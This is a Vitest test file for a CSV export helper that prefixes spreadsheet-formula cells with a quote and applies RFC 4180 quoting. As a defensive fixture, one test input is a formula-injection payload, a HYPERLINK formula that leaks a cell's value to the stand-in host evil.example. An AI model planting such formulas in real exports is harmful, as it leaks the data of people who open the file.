import { describe, expect, it } from 'vitest';
import { csvCell, csvFile, csvRow, CSV_FORMULA_STARTS } from './csv.ts';

describe('csvCell', () => {
  it('writes a cell that a spreadsheet would read as a formula with a leading quote', () => {
    expect(CSV_FORMULA_STARTS).toEqual(['=', '+', '-', '@', '\t', '\r']);
    expect(csvCell('=HYPERLINK("http://evil.example/?leak="&B2,"Refund")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Refund"")"`);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+919812345678')).toBe("'+919812345678");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves every other cell as it is, a formula character later in the text included', () => {
    for (const plain of ['Meera Joshi', 'meera+store@example.test', 'a=b', '', ' =1', '123.00', "'=already quoted", 'SO-1001']) expect(csvCell(plain), plain).toBe(plain);
  });

  it('treats numbers alike: a total of zero or more as it is, a negative one with the quote', () => {
    expect(csvCell(1250)).toBe('1250');
    expect(csvCell('0.00')).toBe('0.00');
    expect(csvCell(-12)).toBe("'-12");
    expect(csvCell('-12.00')).toBe("'-12.00");
  });

  it('quotes a cell with a comma, a quote or a line break (RFC 4180), quotes doubled', () => {
    expect(csvCell('Shah, Meera')).toBe('"Shah, Meera"');
    expect(csvCell('the "best" ghee')).toBe('"the ""best"" ghee"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('joins rows with commas and ends each line with CRLF', () => {
    expect(csvRow(['a', '=b', 3])).toBe("a,'=b,3");
    expect(csvFile([['id', 'name'], [1, '@x']])).toBe("id,name\r\n1,'@x\r\n");
    expect(csvFile([])).toBe('');
  });
});
